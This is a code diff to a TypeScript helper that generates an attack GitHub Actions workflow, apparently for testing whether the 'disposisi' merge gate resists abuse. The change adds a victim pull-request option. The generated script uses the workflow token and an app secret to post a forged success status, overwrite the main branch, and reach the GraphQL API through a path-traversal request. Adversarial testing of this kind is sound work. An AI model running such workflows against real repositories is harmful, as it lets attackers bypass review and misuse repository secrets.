@@ -4,9 +4,8 @@
  */
 const CODE = `
 import { readFileSync } from 'node:fs';
-const { GITHUB_API_URL: api, GITHUB_REPOSITORY: repo, TOKEN: token = '', KEY: key = '' } = process.env;
+const { GITHUB_API_URL: api, GITHUB_REPOSITORY: repo, TOKEN: token = '', KEY: key = '', VICTIM: victim } = process.env;
 const event = JSON.parse(readFileSync(process.env.GITHUB_EVENT_PATH, 'utf8'));
-const { number, head } = event.pull_request;
 const ask = async (name, method, path, body) => {
   const headers = { authorization: 'token ' + token, 'content-type': 'application/json' };
   const answer = await fetch(api + path, { method, headers, body: body && JSON.stringify(body) });
@@ -14,6 +13,8 @@ const ask = async (name, method, path, body) => {
   console.log(name + ': ' + answer.status + (data.errors?.[0]?.type ? ' ' + data.errors[0].type : ''));
   return data;
 };
+const pull = victim ? await ask('read victim', 'GET', '/repos/' + repo + '/pulls/' + victim) : event.pull_request;
+const { number, head } = pull;
 console.log('key: ' + (key === '' ? 'none' : 'PWNED ' + key.length));
 await ask('status', 'POST', '/repos/' + repo + '/statuses/' + head.sha, { state: 'success', context: 'disposisi' });
 await ask('main', 'PATCH', '/repos/' + repo + '/git/refs/heads/main', { sha: head.sha });
@@ -34,10 +35,12 @@ await ask('write register', 'POST', '/../graphql', { query, variables: { input }
 
 /** A workflow that attacks, on the event and with the permissions that its author chooses. */
 export function attackWorkflow(options: {
-  on: string;
-  permissions: string;
-  environment?: string;
-  name?: string;
+  readonly on: string;
+  readonly permissions: string;
+  readonly environment?: string;
+  readonly name?: string;
+  /** The pull request that is to pass; without it, the attack's own. */
+  readonly victim?: number;
 }): string {
   return `name: ${options.name ?? 'attack'}
 on: ${options.on}
@@ -49,6 +52,7 @@ ${options.environment === undefined ? '' : `    environment: ${options.environme
       - env:
           TOKEN: \${{ github.token }}
           KEY: \${{ secrets.DISPOSISI_APP_KEY }}
+          VICTIM: "${options.victim ?? ''}"
           CODE: |
 ${CODE.split('\n')
   .map((line) => `            ${line}`)
